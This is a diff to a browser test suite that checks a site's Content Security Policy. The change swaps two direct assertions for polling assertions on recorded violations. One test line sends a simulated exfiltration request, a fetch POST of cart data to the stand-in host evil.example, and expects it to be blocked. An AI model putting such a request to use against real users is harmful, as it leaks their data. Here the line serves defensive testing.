@@ -138,7 +138,7 @@ test.describe('an attack', () => {
         violations.length = 0;
         await page.goto('/');
         expect(await ran(page)).toBe(false);
-        expect(violations.join('\n')).toContain(directive);
+        await expect.poll(() => violations.join('\n')).toContain(directive);
       });
   });
 
@@ -148,7 +148,7 @@ test.describe('an attack', () => {
       fetch('https://evil.example/', { method: 'POST', body: 'cart' }).then(() => 'sent', String),
     );
     expect(answer).toContain('TypeError');
-    expect(violations.join()).toContain('connect-src https://evil.example/');
+    await expect.poll(() => violations.join()).toContain('connect-src https://evil.example/');
   });
 
   test('a script of the own server is refused without a hash', async ({ context }) => {
